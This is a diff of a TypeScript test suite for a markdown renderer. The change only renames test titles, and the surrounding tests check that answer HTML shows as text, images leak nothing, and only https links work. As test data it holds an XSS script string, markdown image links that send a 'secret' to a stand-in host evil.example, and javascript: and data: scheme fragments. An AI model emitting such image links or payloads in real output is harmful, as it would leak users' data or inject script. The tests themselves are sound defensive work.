@@ -70,7 +70,7 @@ const hostileHtml = [
   "&lt;script&gt;alert(1)&lt;/script&gt;",
 ];
 
-describe("R9: HTML in an answer is text", () => {
+describe("HTML in an answer is text", () => {
   it.each(hostileHtml)("%j", (source) => {
     expectHarmless(source);
     const shown = textOf(drawMarkdown(source));
@@ -79,7 +79,7 @@ describe("R9: HTML in an answer is text", () => {
   });
 });
 
-describe("R9: an image is text, so that its address leaks nothing", () => {
+describe("an image is text, so that its address leaks nothing", () => {
   it.each([
     "![x](https://evil.example/leak?d=secret)",
     "![x][1]\n\n[1]: https://evil.example/leak",
@@ -92,7 +92,7 @@ describe("R9: an image is text, so that its address leaks nothing", () => {
   });
 });
 
-describe("R9: only https links work", () => {
+describe("only https links work", () => {
   const linksOf = (source: string) =>
     elementsOf(drawMarkdown(source)).filter(({ tag }) => tag === "a");
 
@@ -141,7 +141,7 @@ describe("R9: only https links work", () => {
   });
 });
 
-describe("R9: whatever an answer is made of", () => {
+describe("whatever an answer is made of", () => {
   const pieces = fc.constantFrom(
     ...hostileHtml,
     ..."[ ] ( ) ! < > ` ``` ~~~ * ** _ # | - 1. & \\ : // https:// javascript: command: \n \n\n data:".split(
